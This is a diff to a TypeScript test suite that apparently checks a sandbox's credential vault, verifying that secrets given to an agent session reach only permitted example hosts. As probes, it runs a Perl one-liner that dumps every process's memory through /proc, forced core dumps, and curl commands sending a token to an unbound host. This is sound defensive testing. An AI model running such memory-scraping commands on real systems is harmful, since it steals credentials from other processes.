@@ -1,11 +1,12 @@
 import { randomBytes } from "node:crypto";
-import { fail, say } from "@sandbox0/testkit";
+import { call, fail, say } from "@sandbox0/testkit";
 import pg from "pg";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { refused } from "../conformance/fixture/refused.ts";
 import { attackFixture, requestsIn } from "./stage/attack-fixture.ts";
 import { createCanaries } from "./stage/canaries.ts";
 import type { HostileSession } from "./stage/hostile-session.ts";
+import type { ReachedHttp } from "./stage/records.ts";
 import { GOOD } from "./stage/zones.ts";
 
 const canaries = createCanaries();
@@ -25,6 +26,7 @@ const SECRET = {
 };
 const HOSTS = ["example.com", "other.example", "mcp.example.com", "oauth.example.com", "auth.example.com", "llm.example.com"];
 const OTEL_PORT = 8080;
+const HOUR_MS = 3_600_000;
 
 const fixture = attackFixture(Object.fromEntries(HOSTS.map((host) => [host, { addresses: [GOOD.v4] }])), {
   stage: { providerKey: SECRET.provider, apiKey: SECRET.apiKey },
@@ -55,7 +57,7 @@ const oauth = (url: string, tokenEndpoint: string): Auth => ({
   type: "mcp_oauth",
   mcp_server_url: url,
   access_token: SECRET.access,
-  expires_at: "2020-01-01T00:00:00Z",
+  expires_at: new Date(Date.now() + HOUR_MS).toISOString(),
   refresh: {
     refresh_token: SECRET.refresh,
     client_id: "client",
@@ -78,6 +80,7 @@ beforeAll(async () => {
   await addCredential({ type: "static_bearer", mcp_server_url: MCP_SERVERS.broken, token: SECRET.brokenBearer });
   await addCredential(oauth(MCP_SERVERS.oauth, "https://auth.example.com/token"));
   await addCredential(oauth(MCP_SERVERS.expired, "https://auth.example.com/status/400"));
+  await db.query("update vault_credentials set expires_at = now() - interval '1 hour' where expires_at is not null");
   const networking = { type: "limited" as const, allowed_hosts: ["example.com"] };
   await addCredential({ type: "environment_variable", secret_name: "TOKEN", secret_value: SECRET.variable, networking });
   await addCredential({
@@ -148,12 +151,17 @@ test("the search finds what is planted, in every form and every kind of place", 
   await db.query("drop table planted");
 });
 
+/** The server speaks to MCP servers at the same time. */
+async function requestsTo(wanted: string): Promise<ReachedHttp[]> {
+  return requestsIn(await fixture.reached()).filter(({ host }) => host === wanted);
+}
+
 test("secrets go where they should, so that not finding them elsewhere means something", async () => {
   await fixture.stage.inside.forget();
   const basic = 'curl -sS -D- -u "user:$TOKEN" https://example.com/echo?basic';
   const body = `curl -sS -D- -H "Authorization: Bearer $TOKEN" -d '{"key":"'$ANYWHERE'"}' https://example.com/echo?body`;
   await session.bash(`{ ${body}; ${basic}; } | tee /workspace/echoed`);
-  const [first, second] = requestsIn(await fixture.reached());
+  const [first, second] = await requestsTo("example.com");
   expect(first?.headers.authorization).toBe(`Bearer ${SECRET.variable}`);
   expect(first?.body).toBe(JSON.stringify({ key: SECRET.anywhere }));
   expect(second?.headers.authorization).toBe(`Basic ${Buffer.from(`user:${SECRET.variable}`).toString("base64")}`);
@@ -164,7 +172,7 @@ test("a credential that is bound to a host goes nowhere else", async () => {
   await session.bash(
     'curl -sS -H "X: $TOKEN $ANYWHERE" https://other.example/echo; curl -sS -H "X: $TOKEN" http://example.com/echo',
   );
-  const [other, plain] = requestsIn(await fixture.reached());
+  const [[other], [plain]] = [await requestsTo("other.example"), await requestsTo("example.com")];
   expect(other?.headers.x).toContain(SECRET.anywhere);
   expect(other?.headers.x).not.toContain(SECRET.variable);
   expect(plain?.headers.x).not.toContain(SECRET.variable);
@@ -177,8 +185,9 @@ test("a sandbox that looks everywhere", async () => {
   );
   // Of every process whose memory may be read; and a core, if the machine writes one.
   await session.bash(
-    String.raw`perl -e 'for my $maps (glob "/proc/[0-9]*/maps") { my ($pid) = $maps =~ /(\d+)/; open(my $m, "<", $maps) or next; open(my $mem, "<", "/proc/$pid/mem") or next; while (<$m>) { next unless /^([0-9a-f]+)-([0-9a-f]+) r/; sysseek($mem, hex $1, 0); sysread($mem, my $x, hex($2) - hex($1)) and print $x } }' > /workspace/memory 2>/dev/null; ls -s /workspace/memory`,
+    String.raw`perl -e 'for my $maps (glob "/proc/[0-9]*/maps") { my ($pid) = $maps =~ /(\d+)/; open(my $m, "<", $maps) or next; open(my $mem, "<", "/proc/$pid/mem") or next; while (<$m>) { next unless /^([0-9a-f]+)-([0-9a-f]+) r/; my $x; sysseek($mem, hex $1, 0); print $x if sysread($mem, $x, hex($2) - hex($1)) } }' > /workspace/memory 2>/dev/null`,
   );
+  expect(Number(await session.bash("wc -c < /workspace/memory"))).toBeGreaterThan(100_000);
   await session.bash(
     'ulimit -c unlimited; cd /workspace; for n in 1 2 3; do (sh -c "curl -s -H \\"X: $TOKEN\\" https://example.com/echo >/dev/null; kill -SEGV \\$\\$"); done; ls; true',
   );
@@ -259,7 +268,8 @@ test("a server that refuses, fails and throws", async () => {
   const failure = await refused(client.beta.vaults.credentials.create(vaultId, { auth: variable("THROWS", SECRET.variable) }));
   answered.push(JSON.stringify(failure));
   expect(failure.status).toBe(500);
-  await session.bash('curl -sS -m 20 -H "X: $TOKEN" https://example.com/echo');
+  // The turn may fail, and the session with it: it may not say what it had in its hands.
+  await session.turn("", [call("bash", { command: 'curl -sS -m 20 -H "X: $TOKEN" https://example.com/echo' }), say("Done.")]);
   await db.query("alter table vault_secrets_away rename to vault_secrets");
 });
 
